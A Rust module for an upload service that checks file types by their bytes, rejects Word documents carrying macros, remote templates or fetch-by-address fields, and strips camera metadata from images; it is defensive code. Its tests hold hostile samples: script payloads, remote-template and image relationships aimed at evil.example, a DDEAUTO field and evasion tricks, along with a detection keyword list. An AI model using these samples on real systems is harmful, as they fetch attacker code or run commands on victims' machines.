//! Files people upload (portfolio items, attachments of projects and articles): what they
//! are, told by their bytes alone (what the browser says the type is does not count), and
//! images without the metadata cameras write into them.

/// The kinds of file Kolmonen takes.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum FileKind {
    Pdf,
    Png,
    Jpeg,
    /// Office Open XML text (Word), without macros.
    Docx,
    /// OpenDocument text (LibreOffice Writer).
    Odt,
}

impl FileKind {
    pub fn content_type(self) -> &'static str {
        match self {
            FileKind::Pdf => "application/pdf",
            FileKind::Png => "image/png",
            FileKind::Jpeg => "image/jpeg",
            FileKind::Docx => {
                "application/vnd.openxmlformats-officedocument.wordprocessingml.document"
            }
            FileKind::Odt => "application/vnd.oasis.opendocument.text",
        }
    }
    pub fn extension(self) -> &'static str {
        match self {
            FileKind::Pdf => "pdf",
            FileKind::Png => "png",
            FileKind::Jpeg => "jpg",
            FileKind::Docx => "docx",
            FileKind::Odt => "odt",
        }
    }
    pub fn from_content_type(t: &str) -> Option<FileKind> {
        [
            FileKind::Pdf,
            FileKind::Png,
            FileKind::Jpeg,
            FileKind::Docx,
            FileKind::Odt,
        ]
        .into_iter()
        .find(|k| k.content_type() == t)
    }
    pub fn is_image(self) -> bool {
        matches!(self, FileKind::Png | FileKind::Jpeg)
    }
}

/// A file attached to a public record (a project's report, an article's template). The
/// bytes are kept apart and read only when the file is downloaded.
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct Attachment {
    pub id: super::AttachmentId,
    /// The record: `project:{id}` (see [`owner_of_project`]).
    pub owner: String,
    /// What it is, in the uploader's words ("Loppuraportti 2025").
    pub title: String,
    /// The name it is downloaded as: the title's letters, the kind's extension.
    pub file_name: String,
    pub kind: FileKind,
    pub size: u64,
    pub created_by: Option<super::UserId>,
    pub created_at: time::OffsetDateTime,
}

pub fn owner_of_project(id: super::ProjectId) -> String {
    format!("project:{id}")
}

pub fn owner_of_article(id: super::ArticleId) -> String {
    format!("article:{id}")
}

/// A safe file name from a title: letters (Finnish ones too), digits and dashes, at most 60
/// characters, then the extension (`Loppuraportti 2025` → `Loppuraportti-2025.pdf`).
pub fn file_name(title: &str, kind: FileKind) -> String {
    let mut name = String::new();
    for c in title.chars() {
        if c.is_alphanumeric() {
            name.push(c);
        } else if !name.is_empty() && !name.ends_with('-') {
            name.push('-');
        }
        if name.chars().count() >= 60 {
            break;
        }
    }
    let name = name.trim_end_matches('-');
    let name = if name.is_empty() { "liite" } else { name };
    format!("{name}.{}", kind.extension())
}

/// Largest attachment (a report with pictures; the request may be a little bigger).
pub const MAX_ATTACHMENT_BYTES: usize = 8 * 1024 * 1024;
/// Attachments one record may have.
pub const MAX_ATTACHMENTS: usize = 20;
pub const MAX_TITLE_CHARS: usize = 200;

/// Checks an attachment before it is kept: (its kind, its title cleaned) or the field and
/// the translation key of what is wrong.
pub fn check_attachment(
    title: &str,
    bytes: &[u8],
    attachments_now: usize,
) -> Result<(FileKind, String), (&'static str, &'static str)> {
    // No control characters, no bidi overrides or invisible ones.
    let title: String = title
        .chars()
        .filter(|c| !c.is_control() && !super::line::is_deceptive(*c))
        .collect();
    let title = title.trim().to_string();
    if title.is_empty() {
        return Err(("title", "attachments-error-title"));
    }
    if title.chars().count() > MAX_TITLE_CHARS {
        return Err(("title", "attachments-error-title-long"));
    }
    if attachments_now >= MAX_ATTACHMENTS {
        return Err(("file", "attachments-error-full"));
    }
    if bytes.is_empty() {
        return Err(("file", "attachments-error-file"));
    }
    if bytes.len() > MAX_ATTACHMENT_BYTES {
        return Err(("file", "attachments-error-size"));
    }
    match sniff(bytes) {
        Some(kind) => Ok((kind, title)),
        None => Err(("file", "attachments-error-type")),
    }
}

/// What a file is by its bytes, or `None` for anything else (HTML, SVG, scripts, archives,
/// executables, a Word file with macros, an ODF file that is not text).
pub fn sniff(bytes: &[u8]) -> Option<FileKind> {
    if bytes.starts_with(b"\x89PNG\r\n\x1a\n") {
        Some(FileKind::Png)
    } else if bytes.starts_with(&[0xFF, 0xD8, 0xFF]) {
        Some(FileKind::Jpeg)
    } else if bytes.starts_with(b"%PDF-") {
        Some(FileKind::Pdf)
    } else if bytes.starts_with(b"PK\x03\x04") {
        zip_document(bytes)
    } else {
        None
    }
}

const ODT_MIMETYPE: &[u8] = b"application/vnd.oasis.opendocument.text";

/// A ZIP container's kind: ODF text names itself in a first, uncompressed `mimetype` entry;
/// a Word document has `[Content_Types].xml` and `word/document.xml` in its central
/// directory. Neither may carry macros or embedded programs.
fn zip_document(b: &[u8]) -> Option<FileKind> {
    let entries = zip_entries(b)?;
    let names: Vec<&[u8]> = entries.iter().map(|e| e.name.as_slice()).collect();
    let lower: Vec<Vec<u8>> = names.iter().map(|n| n.to_ascii_lowercase()).collect();
    // ODF: the first local entry is `mimetype`, stored, its bytes right after the header.
    let (name_len, extra_len) = (le16(b, 26)?, le16(b, 28)?);
    if b.get(30..30 + name_len) == Some(b"mimetype".as_slice()) && le16(b, 8)? == 0 {
        let data = 30 + name_len + extra_len;
        let text = b.get(data..data + ODT_MIMETYPE.len()) == Some(ODT_MIMETYPE)
            && b.get(data + ODT_MIMETYPE.len()) == Some(&b'P');
        let macros = lower
            .iter()
            .any(|n| n.starts_with(b"basic/") || n.starts_with(b"scripts/"));
        return (text && !macros).then_some(FileKind::Odt);
    }
    let has = |name: &[u8]| names.contains(&name);
    // Macros and embedded binaries (vbaProject.bin, vbaData, ActiveX, OLE objects), in any
    // case of letters.
    let binaries = lower.iter().any(|n| n.ends_with(b".bin"));
    if !(has(b"[Content_Types].xml") && has(b"word/document.xml")) || binaries {
        return None;
    }
    // Nothing fetched from elsewhere when it is opened (a remote template, a frame, an
    // image or object by address, a field that includes a picture or text by address): only
    // hyperlinks may point outside. Every part but pictures is read, whatever its name; a part
    // that cannot be read is refused, and so is a name written with %-escapes. At most
    // `MAX_SCANNED_BYTES` are unpacked in all, counted as they come (not as the file claims).
    if lower.iter().any(|n| n.contains(&b'%')) {
        return None;
    }
    let mut budget = MAX_SCANNED_BYTES;
    for e in &entries {
        let name = e.name.to_ascii_lowercase();
        let picture = [
            ".png", ".jpg", ".jpeg", ".gif", ".bmp", ".tif", ".tiff", ".emf", ".wmf",
        ]
        .iter()
        .any(|x| name.ends_with(x.as_bytes()));
        if picture || name.ends_with(b"/") {
            continue;
        }
        let rels = name.ends_with(b".rels") || name.windows(5).any(|w| w == b"_rels");
        if rels {
            let data = entry_data(b, e)?;
            budget = budget.checked_sub(data.len())?;
            if fetches_from_outside(&data)? {
                return None;
            }
        } else if includes_by_field(b, e, &mut budget)? {
            return None;
        }
    }
    Some(FileKind::Docx)
}

/// Bytes unpacked at most while reading a Word file's parts, in all.
const MAX_SCANNED_BYTES: usize = 64 * 1024 * 1024;

/// Whether an Office relationship part has a relationship that fetches from elsewhere (an
/// external one, or one whose target is an address, other than a hyperlink; an `aFChunk`);
/// `None` when it is not plain UTF-8 XML whose relationships can be read for certain (other
/// encodings, character references, declared entities, comments, CDATA, processing
/// instructions past the declaration, attributes that cannot be read or come twice).
fn fetches_from_outside(rels: &[u8]) -> Option<bool> {
    let text = std::str::from_utf8(rels).ok()?;
    let lower = text.to_ascii_lowercase();
    let body = lower.trim_start_matches('\u{feff}').trim_start();
    let body = match body.strip_prefix("<?xml") {
        Some(rest) => &rest[rest.find("?>")? + 2..],
        None => body,
    };
    if ["&#", "<!", "<?"].iter().any(|m| body.contains(m)) {
        return None;
    }
    let mut rest = text;
    while let Some(at) = rest.find('<') {
        rest = &rest[at + 1..];
        let name_end = rest
            .find(|c: char| c.is_whitespace() || c == '>' || c == '/')
            .unwrap_or(rest.len());
        let local = local_name(&rest[..name_end]);
        rest = &rest[name_end..];
        if !local.eq_ignore_ascii_case("relationship") {
            continue;
        }
        let (attrs, after) = attributes(rest)?;
        rest = after;
        // By local name (any prefix), none twice.
        let attrs: Vec<(String, &str)> = attrs
            .into_iter()
            .map(|(n, v)| (local_name(n).to_ascii_lowercase(), v.trim()))
            .collect();
        let mut names: Vec<&str> = attrs.iter().map(|(n, _)| n.as_str()).collect();
        names.sort_unstable();
        names.dedup();
        if names.len() != attrs.len() {
            return None;
        }
        let value = |wanted: &str| attrs.iter().find(|(n, _)| n == wanted).map(|(_, v)| *v);
        let kind = value("type").unwrap_or_default();
        let hyperlink = kind.ends_with("/relationships/hyperlink");
        let target = value("target").unwrap_or_default().to_ascii_lowercase();
        let address =
            target.contains(':') || target.starts_with("//") || target.starts_with("\\\\");
        let external =
            value("targetmode").is_some_and(|m| m.eq_ignore_ascii_case("external")) || address;
        if (external && !hyperlink) || kind.to_ascii_lowercase().ends_with("/afchunk") {
            return Some(true);
        }
    }
    Some(false)
}

/// An XML name without its prefix (`p:Relationship` → `Relationship`).
fn local_name(name: &str) -> &str {
    name.rsplit(':').next().unwrap_or_default()
}

/// An element's attributes (`name="value"` or `name='value'`) up to its end, and the text
/// after it; `None` when they cannot be read.
fn attributes(s: &str) -> Option<(Vec<(&str, &str)>, &str)> {
    let mut out = Vec::new();
    let mut rest = s;
    loop {
        rest = rest.trim_start();
        if let Some(after) = rest.strip_prefix("/>").or_else(|| rest.strip_prefix('>')) {
            return Some((out, after));
        }
        let eq = rest.find('=')?;
        let name = rest[..eq].trim();
        if name.is_empty() || name.contains(|c: char| c.is_whitespace() || c == '<' || c == '>') {
            return None;
        }
        rest = rest[eq + 1..].trim_start();
        let quote = rest.chars().next().filter(|c| *c == '"' || *c == '\'')?;
        let end = rest[1..].find(quote)?;
        out.push((name, &rest[1..1 + end]));
        rest = &rest[end + 2..];
    }
}

/// Reads XML as it comes: numeric character references read as what they stand for (in text
/// and in attributes alike), and the text outside tags and inside CDATA without spaces.
#[derive(Default)]
struct FieldScanner {
    /// The last bytes, tags and all, references read.
    raw: Vec<u8>,
    /// The last bytes of text.
    text: Vec<u8>,
    /// A reference being read (after `&`).
    entity: Option<Vec<u8>>,
    /// Inside a tag: its first bytes (to tell a CDATA section).
    tag: Option<Vec<u8>>,
    cdata: bool,
}

impl FieldScanner {
    const NEEDLES: [&'static [u8]; 3] = [b"includepicture", b"includetext", b"ddeauto"];

    fn hit(w: &[u8]) -> bool {
        Self::NEEDLES.iter().any(|n| w.ends_with(n))
    }

    fn keep(w: &mut Vec<u8>) {
        if w.len() > 64 {
            w.drain(..w.len() - 32);
        }
    }

    /// Reads one byte; true when a field that fetches by address has been read.
    fn push(&mut self, c: u8) -> bool {
        if let Some(ent) = self.entity.as_mut() {
            if c != b';' && ent.len() <= 10 {
                ent.push(c.to_ascii_lowercase());
                return false;
            }
            let name = String::from_utf8_lossy(ent).to_string();
            self.entity = None;
            let v = name
                .strip_prefix('#')
                .and_then(|d| match d.strip_prefix('x') {
                    Some(h) => u32::from_str_radix(h, 16).ok(),
                    None => d.parse().ok(),
                });
            return match v.and_then(char::from_u32).filter(char::is_ascii) {
                Some(ch) => self.read(ch as u8),
                None => false,
            };
        }
        if c == b'&' {
            self.entity = Some(Vec::new());
            return false;
        }
        self.read(c)
    }

    fn read(&mut self, c: u8) -> bool {
        let c = c.to_ascii_lowercase();
        self.raw.push(c);
        Self::keep(&mut self.raw);
        if Self::hit(&self.raw) {
            return true;
        }
        if self.cdata {
            if self.raw.ends_with(b"]]>") {
                self.cdata = false;
                return false;
            }
        } else if let Some(tag) = self.tag.as_mut() {
            if c == b'>' {
                self.tag = None;
            } else if tag.len() < 8 {
                tag.push(c);
                if tag.as_slice() == b"![cdata[" {
                    self.tag = None;
                    self.cdata = true;
                }
            }
            return false;
        } else if c == b'<' {
            self.tag = Some(Vec::new());
            return false;
        }
        if c.is_ascii_whitespace() || c == b']' {
            return false;
        }
        self.text.push(c);
        Self::keep(&mut self.text);
        Self::hit(&self.text)
    }
}

/// Whether a Word part has a field that fetches a picture or text by address
/// (`INCLUDEPICTURE`, `INCLUDETEXT`, `DDEAUTO`), in an instruction attribute or in field text
/// split over runs, CDATA or references; `None` when the part cannot be read or the budget
/// of unpacked bytes runs out. Read as it is unpacked, never whole.
fn includes_by_field(b: &[u8], e: &ZipEntry, budget: &mut usize) -> Option<bool> {
    use std::io::Read;
    let mut reader = entry_reader(b, e)?;
    let mut scanner = FieldScanner::default();
    let mut buf = [0u8; 64 * 1024];
    loop {
        let n = reader.read(&mut buf).ok()?;
        if n == 0 {
            return Some(false);
        }
        *budget = budget.checked_sub(n)?;
        if buf[..n].iter().any(|c| scanner.push(*c)) {
            return Some(true);
        }
    }
}

/// The little-endian 16-bit number at `i` (ZIP headers), `None` past the end.
fn le16(b: &[u8], i: usize) -> Option<usize> {
    Some(usize::from(u16::from_le_bytes(
        b.get(i..i + 2)?.try_into().ok()?,
    )))
}

/// The little-endian 32-bit number at `i`, `None` past the end.
fn le32(b: &[u8], i: usize) -> Option<usize> {
    Some(u32::from_le_bytes(b.get(i..i + 4)?.try_into().ok()?) as usize)
}

/// An entry of a ZIP file's central directory.
struct ZipEntry {
    name: Vec<u8>,
    method: usize,
    size: usize,
    unpacked: usize,
    /// Where its local header is.
    local: usize,
}

/// A part unpacked at most this large is read (relationship parts are a few kilobytes).
const MAX_PART_BYTES: usize = 1024 * 1024;

/// An entry's bytes as stored (packed), from its local header.
fn entry_bytes<'a>(b: &'a [u8], e: &ZipEntry) -> Option<&'a [u8]> {
    if !b.get(e.local..)?.starts_with(b"PK\x03\x04") {
        return None;
    }
    let start = e.local + 30 + le16(b, e.local + 26)? + le16(b, e.local + 28)?;
    b.get(start..start.checked_add(e.size)?)
}

/// A reader of an entry's bytes as they unpack (stored or deflated; `None` for any other
/// method).
fn entry_reader<'a>(b: &'a [u8], e: &ZipEntry) -> Option<Box<dyn std::io::Read + 'a>> {
    let data = entry_bytes(b, e)?;
    match e.method {
        0 => Some(Box::new(data)),
        8 => Some(Box::new(flate2::read::DeflateDecoder::new(data))),
        _ => None,
    }
}

/// An entry's bytes, unpacked (at most `MAX_PART_BYTES`).
fn entry_data(b: &[u8], e: &ZipEntry) -> Option<Vec<u8>> {
    use std::io::Read;
    if e.unpacked > MAX_PART_BYTES {
        return None;
    }
    let mut out = Vec::new();
    entry_reader(b, e)?
        .take(MAX_PART_BYTES as u64 + 1)
        .read_to_end(&mut out)
        .ok()?;
    (out.len() <= MAX_PART_BYTES).then_some(out)
}

/// The entries of a ZIP file's central directory, found from its end record (within the
/// last 64 KiB + 22 bytes); `None` when it cannot be read whole.
fn zip_entries(b: &[u8]) -> Option<Vec<ZipEntry>> {
    let tail_from = b.len().saturating_sub(65_557);
    let end = (tail_from..b.len().saturating_sub(21))
        .rev()
        .find(|&i| b[i..].starts_with(b"PK\x05\x06"))?;
    let (count, offset) = (le16(b, end + 10)?, le32(b, end + 16)?);
    let mut entries = Vec::with_capacity(count.min(4096));
    let mut i = offset;
    for _ in 0..count {
        if !b.get(i..)?.starts_with(b"PK\x01\x02") {
            return None;
        }
        let (n, x, c) = (le16(b, i + 28)?, le16(b, i + 30)?, le16(b, i + 32)?);
        entries.push(ZipEntry {
            name: b.get(i + 46..i + 46 + n)?.to_vec(),
            method: le16(b, i + 10)?,
            size: le32(b, i + 20)?,
            unpacked: le32(b, i + 24)?,
            local: le32(b, i + 42)?,
        });
        i += 46 + n + x + c;
    }
    // The directory runs up to its end record: no entry left out of the count, no ZIP64.
    (i == end && le16(b, end + 8)? == count).then_some(entries)
}

/// The file without the metadata cameras and editors write into it (ASVS 5.0 14.2.8): a
/// photo's Exif block carries where and when it was taken and with which phone, which the
/// person never meant to share. JPEG keeps only what draws the picture: JFIF, its colour
/// profile and Adobe's colour segment, tables, frames and scans up to the end-of-image marker
/// (Exif, XMP, IPTC, comments, vendor segments, multi-picture extra images and anything
/// appended after the end are dropped). PNG keeps only the chunks that draw the picture and
/// its colours. `None` when an image's structure cannot be followed: it is refused, never
/// kept with what it might carry. Documents are kept as they came.
pub fn without_metadata(kind: &str, bytes: &[u8]) -> Option<Vec<u8>> {
    match kind {
        "image/jpeg" => jpeg_without_metadata(bytes),
        "image/png" => png_without_metadata(bytes),
        _ => Some(bytes.to_vec()),
    }
}

fn jpeg_without_metadata(b: &[u8]) -> Option<Vec<u8>> {
    if !b.starts_with(&[0xFF, 0xD8]) {
        return None;
    }
    let mut out = b[..2].to_vec();
    let mut i = 2;
    loop {
        if *b.get(i)? != 0xFF {
            return None;
        }
        // Fill bytes before a marker.
        while b.get(i + 1) == Some(&0xFF) {
            i += 1;
        }
        let marker = *b.get(i + 1)?;
        match marker {
            // The end: whatever follows (another picture, a trailer) is left out.
            0xD9 => {
                out.extend_from_slice(&b[i..i + 2]);
                return Some(out);
            }
            0x01 | 0xD0..=0xD7 => {
                out.extend_from_slice(&b[i..i + 2]);
                i += 2;
            }
            _ => {
                let len = usize::from(u16::from_be_bytes([*b.get(i + 2)?, *b.get(i + 3)?]));
                let end = i.checked_add(2)?.checked_add(len)?;
                let segment = b.get(i..end)?;
                let keep = match marker {
                    // JFIF; a colour profile (not a multi-picture index); Adobe's colours.
                    0xE0 | 0xEE => true,
                    0xE2 => !segment.get(4..).is_some_and(|s| s.starts_with(b"MPF\0")),
                    // Exif, XMP, IPTC, vendor segments and comments.
                    0xE1 | 0xE3..=0xED | 0xEF | 0xFE => false,
                    _ => true,
                };
                if keep {
                    out.extend_from_slice(segment);
                }
                i = end;
                if marker == 0xDA {
                    // The scan's coded data runs to the next marker (stuffed 0xFF00 and
                    // restart markers are part of it).
                    let mut j = i;
                    loop {
                        if *b.get(j)? == 0xFF {
                            match *b.get(j + 1)? {
                                0x00 | 0xD0..=0xD7 => j += 2,
                                0xFF => j += 1,
                                _ => break,
                            }
                        } else {
                            j += 1;
                        }
                    }
                    out.extend_from_slice(&b[i..j]);
                    i = j;
                }
            }
        }
    }
}

/// The PNG chunks that draw a picture and its colours; everything else (text, Exif, times,
/// private chunks) is left out.
const PNG_KEPT: [&[u8; 4]; 12] = [
    b"IHDR", b"PLTE", b"IDAT", b"IEND", b"tRNS", b"gAMA", b"cHRM", b"sRGB", b"iCCP", b"sBIT",
    b"bKGD", b"pHYs",
];

fn png_without_metadata(b: &[u8]) -> Option<Vec<u8>> {
    let mut out = b.get(..8)?.to_vec();
    let mut i = 8;
    loop {
        let len = u32::from_be_bytes(b.get(i..i + 4)?.try_into().ok()?) as usize;
        let kind = b.get(i + 4..i + 8)?;
        let end = i.checked_add(12)?.checked_add(len)?;
        let chunk = b.get(i..end)?;
        if PNG_KEPT.iter().any(|k| k.as_slice() == kind) {
            out.extend_from_slice(chunk);
        }
        i = end;
        if kind == b"IEND" {
            return Some(out);
        }
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn photos_lose_their_metadata() {
        // A JPEG: SOI, APP0 (JFIF), APP1 (Exif with a place), COM, DQT, SOS and data, EOI.
        let seg = |m: u8, body: &[u8]| {
            let mut v = vec![0xFF, m];
            v.extend_from_slice(&((body.len() + 2) as u16).to_be_bytes());
            v.extend_from_slice(body);
            v
        };
        let mut jpeg = vec![0xFF, 0xD8];
        jpeg.extend(seg(0xE0, b"JFIF\0\x01\x01"));
        let exif: &[u8] = b"Exif\0\0GPS 60.98N 25.66E Lahti";
        jpeg.extend(seg(0xE1, exif));
        jpeg.extend(seg(0xFE, b"kotona"));
        jpeg.extend(seg(0xDB, &[0u8; 65]));
        jpeg.extend(seg(0xDA, &[1, 2, 3]));
        jpeg.extend([0x11, 0x22, 0xFF, 0x00, 0x33, 0xFF, 0xD9]);
        let clean = without_metadata("image/jpeg", &jpeg).unwrap();
        let has = |v: &[u8], s: &[u8]| v.windows(s.len()).any(|w| w == s);
        assert!(!has(&clean, b"GPS") && !has(&clean, b"kotona"));
        assert!(has(&clean, b"JFIF"));
        assert!(clean.ends_with(&[0x11, 0x22, 0xFF, 0x00, 0x33, 0xFF, 0xD9]));
        assert_eq!(
            clean.len(),
            jpeg.len() - (4 + exif.len()) - (4 + b"kotona".len())
        );
        // A PNG: IHDR, tEXt, eXIf, IDAT, IEND.
        let chunk = |t: &[u8; 4], body: &[u8]| {
            let mut v = (body.len() as u32).to_be_bytes().to_vec();
            v.extend_from_slice(t);
            v.extend_from_slice(body);
            v.extend_from_slice(&[0, 0, 0, 0]);
            v
        };
        let mut png = b"\x89PNG\r\n\x1a\n".to_vec();
        png.extend(chunk(b"IHDR", &[0; 13]));
        png.extend(chunk(b"tEXt", b"Author\0Matti"));
        png.extend(chunk(b"eXIf", b"MM GPS"));
        png.extend(chunk(b"IDAT", &[7; 10]));
        png.extend(chunk(b"IEND", &[]));
        let clean = without_metadata("image/png", &png).unwrap();
        assert!(!has(&clean, b"Matti") && !has(&clean, b"GPS"));
        assert!(has(&clean, b"IHDR") && has(&clean, b"IDAT") && has(&clean, b"IEND"));
        // What cannot be followed is refused; documents are kept as they came.
        let broken = [0xFF, 0xD8, 0xFF, 0xE1, 0xFF];
        assert_eq!(without_metadata("image/jpeg", &broken), None);
        let mut stray = jpeg.clone();
        stray.insert(2, 0x00);
        assert_eq!(without_metadata("image/jpeg", &stray), None);
        assert_eq!(
            without_metadata("application/pdf", b"%PDF-1"),
            Some(b"%PDF-1".to_vec())
        );
        // A second picture after the end (a multi-picture file's extra image, with its own
        // Exif) and a multi-picture index go; a lower-case or private PNG chunk too.
        let mut two = jpeg.clone();
        two.extend_from_slice(&jpeg);
        let clean = without_metadata("image/jpeg", &two).unwrap();
        assert!(!has(&clean, b"GPS") && clean.len() < jpeg.len());
        let mut mpf = vec![0xFF, 0xD8];
        mpf.extend(seg(0xE2, b"MPF\0II*\0GPS"));
        mpf.extend(seg(0xE2, b"ICC_PROFILE\0\x01\x01"));
        mpf.extend(seg(0xDA, &[1]));
        mpf.extend([0x11, 0xFF, 0x00, 0x22, 0xFF, 0xD0, 0x33, 0xFF, 0xD9]);
        let clean = without_metadata("image/jpeg", &mpf).unwrap();
        assert!(!has(&clean, b"MPF") && has(&clean, b"ICC_PROFILE"));
        assert!(clean.ends_with(&[0x11, 0xFF, 0x00, 0x22, 0xFF, 0xD0, 0x33, 0xFF, 0xD9]));
        let mut png2 = b"\x89PNG\r\n\x1a\n".to_vec();
        png2.extend(chunk(b"IHDR", &[0; 13]));
        png2.extend(chunk(b"exIf", b"GPS"));
        png2.extend(chunk(b"prVt", b"GPS"));
        png2.extend(chunk(b"IDAT", &[7; 4]));
        png2.extend(chunk(b"IEND", &[]));
        let clean = without_metadata("image/png", &png2).unwrap();
        assert!(!has(&clean, b"GPS") && has(&clean, b"IDAT"));
    }

    /// A stored (uncompressed) ZIP of these entries, as a writer would lay it out.
    fn zip(entries: &[(&str, &[u8])]) -> Vec<u8> {
        let mut out = Vec::new();
        let mut central = Vec::new();
        for (name, data) in entries {
            let offset = out.len() as u32;
            let header = |sig: &[u8], v: &mut Vec<u8>| {
                v.extend_from_slice(sig);
                if sig == b"PK\x01\x02" {
                    v.extend_from_slice(&[20, 0]); // made by
                }
                v.extend_from_slice(&[20, 0, 0, 0, 0, 0, 0, 0, 0, 0]); // version, flags, stored, time, date
                v.extend_from_slice(&[0; 4]); // crc (not checked by the sniffer)
                v.extend_from_slice(&(data.len() as u32).to_le_bytes());
                v.extend_from_slice(&(data.len() as u32).to_le_bytes());
                v.extend_from_slice(&(name.len() as u16).to_le_bytes());
                v.extend_from_slice(&[0, 0]); // extra
            };
            header(b"PK\x03\x04", &mut out);
            out.extend_from_slice(name.as_bytes());
            out.extend_from_slice(data);
            header(b"PK\x01\x02", &mut central);
            central.extend_from_slice(&[0; 6]); // comment length, disk, internal attributes
            central.extend_from_slice(&[0; 4]); // external attributes
            central.extend_from_slice(&offset.to_le_bytes());
            central.extend_from_slice(name.as_bytes());
        }
        let cd_offset = out.len() as u32;
        out.extend_from_slice(&central);
        out.extend_from_slice(b"PK\x05\x06\0\0\0\0");
        out.extend_from_slice(&(entries.len() as u16).to_le_bytes());
        out.extend_from_slice(&(entries.len() as u16).to_le_bytes());
        out.extend_from_slice(&(central.len() as u32).to_le_bytes());
        out.extend_from_slice(&cd_offset.to_le_bytes());
        out.extend_from_slice(&[0, 0]);
        out
    }

    /// A Word document with one more part.
    fn word_with(name: &str, data: &[u8]) -> Vec<u8> {
        zip(&[
            ("[Content_Types].xml", b"<Types/>"),
            ("word/document.xml", b"<w:document/>"),
            (name, data),
        ])
    }

    #[test]
    fn documents_and_images_are_told_by_their_bytes() {
        assert_eq!(sniff(b"%PDF-1.7\n%..."), Some(FileKind::Pdf));
        assert_eq!(sniff(b"\x89PNG\r\n\x1a\n...."), Some(FileKind::Png));
        assert_eq!(
            sniff(&[0xFF, 0xD8, 0xFF, 0xE0, 0, 16]),
            Some(FileKind::Jpeg)
        );
        let docx = zip(&[
            ("[Content_Types].xml", b"<Types/>"),
            ("_rels/.rels", b"<Relationships/>"),
            ("word/document.xml", b"<w:document/>"),
        ]);
        assert_eq!(sniff(&docx), Some(FileKind::Docx));
        // A link to a web page is fine.
        let linked = zip(&[
            ("[Content_Types].xml", b"<Types/>"),
            ("word/document.xml", b"<w:document/>"),
            (
                "word/_rels/document.xml.rels",
                br#"<Relationships><Relationship Id="rId5" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink" Target="https://kolmonen.fi/" TargetMode="External"/><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/styles" Target="styles.xml"/></Relationships>"#,
            ),
        ]);
        assert_eq!(sniff(&linked), Some(FileKind::Docx));
        let odt = zip(&[
            ("mimetype", ODT_MIMETYPE),
            ("content.xml", b"<office:document-content/>"),
        ]);
        assert_eq!(sniff(&odt), Some(FileKind::Odt));
        // What the name or the browser claims does not count: these are refused.
        for (what, bytes) in [
            ("html", b"<!DOCTYPE html><script>alert(1)</script>".to_vec()),
            (
                "svg",
                b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>".to_vec(),
            ),
            ("gif", b"GIF89a\x01\0\x01\0".to_vec()),
            ("exe", b"MZ\x90\0\x03".to_vec()),
            ("empty", Vec::new()),
            ("pdf not at the start", b" %PDF-1.7".to_vec()),
            (
                "a zip of anything",
                zip(&[("a.txt", b"hello"), ("b.js", b"alert(1)")]),
            ),
            (
                "word with macros",
                zip(&[
                    ("[Content_Types].xml", b"<Types/>"),
                    ("word/document.xml", b"<w:document/>"),
                    ("word/vbaProject.bin", b"\xD0\xCF"),
                ]),
            ),
            (
                "word with a remote template",
                zip(&[
                    ("[Content_Types].xml", b"<Types/>"),
                    ("word/document.xml", b"<w:document/>"),
                    (
                        "word/_rels/settings.xml.rels",
                        br#"<Relationships><Relationship Id="rId1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="https://evil.example/t.dotm" TargetMode="External"/></Relationships>"#,
                    ),
                ]),
            ),
            (
                "word with an image by address",
                zip(&[
                    ("[Content_Types].xml", b"<Types/>"),
                    ("word/document.xml", b"<w:document/>"),
                    (
                        "word/_rels/document.xml.rels",
                        br#"<Relationships><Relationship Id='rId9' Type='http://schemas.openxmlformats.org/officeDocument/2006/relationships/image' Target='http://evil.example/p.png' TargetMode='External'/></Relationships>"#,
                    ),
                ]),
            ),
            (
                "word with a remote template named like a hyperlink",
                word_with("word/_rels/settings.xml.rels", br#"<Relationships><Relationship Id="r" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" Target="http://evil.example/hyperlink" TargetMode="External"/></Relationships>"#),
            ),
            (
                "a remote template with a character reference",
                word_with("word/_rels/settings.xml.rels", br#"<Relationships><Relationship Id="r" Type="x/attachedTemplate" Target="http://evil.example/t" TargetMode="&#69;xternal"/></Relationships>"#),
            ),
            (
                "a prefixed relationship with > in an attribute",
                word_with("word/_rels/settings.xml.rels", br#"<p:Relationships xmlns:p="x"><p:Relationship Id="r" Target="http://evil.example/t?a=>" Type="x/attachedTemplate" TargetMode="External"/></p:Relationships>"#),
            ),
            (
                "a relationship part named with %-escapes",
                word_with("word/_rels/settings.xml.rel%73", b"<Relationships/>"),
            ),
            (
                "a relationship part in UTF-16",
                word_with("word/_rels/settings.xml.rels", b"\xff\xfe<\0R\0"),
            ),
            (
                "a picture field split over runs",
                zip(&[
                    ("[Content_Types].xml", b"<Types/>"),
                    ("word/document.xml", br#"<w:document><w:r><w:instrText>INCLUDE</w:instrText></w:r><w:r><w:instrText>&#80;ICTURE "http://evil.example/p.png" \d</w:instrText></w:r></w:document>"#),
                ]),
            ),
            (
                "a field in an attribute written with a reference",
                word_with("word/header1.xml", br#"<w:hdr><w:fldSimple w:instr="&#73;NCLUDEPICTURE &quot;http://evil.example/p.png&quot; \d"/></w:hdr>"#),
            ),
            (
                "a field split by CDATA",
                word_with("word/footer1.xml", br#"<w:ftr><w:instrText><![CDATA[INCLUDEPIC]]>TURE "http://evil.example/p"</w:instrText></w:ftr>"#),
            ),
            (
                "a field in a part not named word/*.xml",
                word_with("x/main.xml", br#"<w:document><w:instrText>DDEAUTO c:\\x "a"</w:instrText></w:document>"#),
            ),
            (
                "a relationship hidden behind a comment",
                word_with("word/_rels/settings.xml.rels", br#"<Relationships><!-- <Relationship x=' --><Relationship Type="x/attachedTemplate" Target="http://evil.example/t" TargetMode="External"/><!-- ' /> --></Relationships>"#),
            ),
            (
                "a prefixed attribute before the real one",
                word_with("word/_rels/settings.xml.rels", br#"<Relationships><Relationship x:Type="x/relationships/hyperlink" Type="x/attachedTemplate" Target="http://evil.example/t" TargetMode="External"/></Relationships>"#),
            ),
            (
                "a template by address without a target mode",
                word_with("word/_rels/settings.xml.rels", br#"<Relationships><Relationship Type="x/attachedTemplate" Target="\\evil.example\share\t.dotm"/></Relationships>"#),
            ),
            (
                "an alternative chunk",
